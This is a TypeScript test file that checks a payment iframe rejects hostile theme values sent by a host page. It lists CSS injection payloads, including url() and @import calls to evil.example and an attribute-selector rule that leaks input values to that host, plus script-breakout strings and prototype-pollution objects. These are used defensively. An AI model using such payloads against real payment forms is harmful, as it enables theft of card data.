import {expect} from '@open-wc/testing';
import * as v from 'valibot';

import {applySettings} from '../../src/vault/look.js';
import {toPaySchema, type ToPay} from '../../src/vault/messages.js';
import {figure} from '../helpers/figure.js';
import {SHOP, turn, VaultEnd, watchErrors} from './ends.js';

/** Ways to say more than one value, or to have something loaded; each is tried at every token. */
const ATTACKS = [
  'url(https://evil.example/?4)',
  'url("//evil.example")',
  'URL(https://evil.example)',
  'u\\72l(https://evil.example)',
  'image-set("https://evil.example" 1x)',
  'src(https://evil.example)',
  'attr(value)',
  'env(x)',
  'var(--chatpay-accent)',
  'calc(1px + 1px)',
  'expression(alert(1))',
  '-moz-binding:url(x)',
  'red;background:url(//evil.example)',
  '#fff;}input[value^="4"]{background:url(//evil.example/4)}',
  '#fff}@import "//evil.example";{',
  '#fff/*',
  '*/#fff',
  '#fff<!--',
  '</style><script>window.ran=1</script>',
  '<img src=x onerror=window.ran=1>',
  'javascript:alert(1)',
  '#fff !important',
  'inherit',
  'unset',
  'initial',
  '\\23 fff',
  '#fff\n',
  ' #fff',
  '#fff\u0000',
  '#ｆｆｆ',
  '１px',
  '',
  '1e9px',
  '-1px',
  '99999px',
  '100vw',
  'x'.repeat(10_000),
];

const TOKENS = [
  'accent',
  'accentText',
  'accentInk',
  'surface',
  'text',
  'mutedText',
  'border',
  'fieldSurface',
  'fieldText',
  'fieldBorder',
  'labelText',
  'focusRing',
  'danger',
  'radius',
  'fontSize',
];

/** Values that are no text, and tokens that are none. */
const OTHERS: readonly object[] = [
  {scheme: 'only light'},
  {scheme: 'dark;x'},
  {scheme: ''},
  {font: 'Evil Sans'},
  {font: 'url(//evil.example)'},
  {font: 'inherit'},
  {accent: 1},
  {accent: null},
  {accent: ['#fff']},
  {accent: {toString: '#fff'}},
  {background: '#fff'},
  {'--chatpay-accent': '#fff'},
  {css: '*{}'},
  {style: '*{}'},
  {constructor: '#fff'},
  JSON.parse('{"__proto__":{"accent":"#fff"}}') as object,
  ['#fff'],
];

const LOCALES = ['<b>', 'en"onload="x', 'en us', '', 'e', 'x'.repeat(36), '../en', 'en;x'];

const settings = (theme: object) => ({type: 'settings', theme, locale: 'en', direction: 'ltr', clockOffsetMs: 0});

const HOSTILE = [
  ...TOKENS.flatMap((token) => ATTACKS.map((value) => settings({[token]: value}))),
  ...OTHERS.map(settings),
  ...LOCALES.map((locale) => ({...settings({}), locale})),
  ...['up', 'ltr ', '', 'auto'].map((direction) => ({...settings({}), direction})),
  ...['1', null, 1.5, 1e300].map((clockOffsetMs) => ({...settings({}), clockOffsetMs})),
];

describe('T23: a host’s styling', () => {
  /** What the vault's page looks like once it has heard a message, or `undefined` when it has given up. */
  async function styled(message: object): Promise<string | undefined> {
    const root = document.createElement('html');
    const vault = new VaultEnd();
    vault.answer(SHOP).postMessage(JSON.stringify(message));
    for (let turns = 0; turns < 100 && vault.heard.length + vault.faults.length === 0; turns++) await turn();
    const [heard] = vault.heard;
    if (heard) applySettings(root, heard as Extract<ToPay, {type: 'settings'}>);
    return heard && root.outerHTML;
  }

  it(`sets nothing but tokens: ${HOSTILE.length} hostile values`, async () => {
    const {errors, stop} = watchErrors();
    const applied: string[] = [];
    for (const message of HOSTILE) {
      const look = await styled(message);
      if (look !== undefined) applied.push(JSON.stringify(message).slice(0, 100));
    }
    stop();
    expect(applied).to.deep.equal([]);
    expect(errors).to.deep.equal([]);
    expect(HOSTILE.length).to.be.at.least(300);
    expect('ran' in window).to.equal(false);
    await figure('T23', `${HOSTILE.length} hostile values, 0 applied`);
  });

  it('sets the tokens that are right', async () => {
    expect(await styled(settings({accent: '#123456', radius: '4px', font: 'serif'}))).to.contain(
      '--chatpay-accent: #123456',
    );
    expect(v.is(toPaySchema, settings({scheme: 'dark'}))).to.equal(true);
  });
});
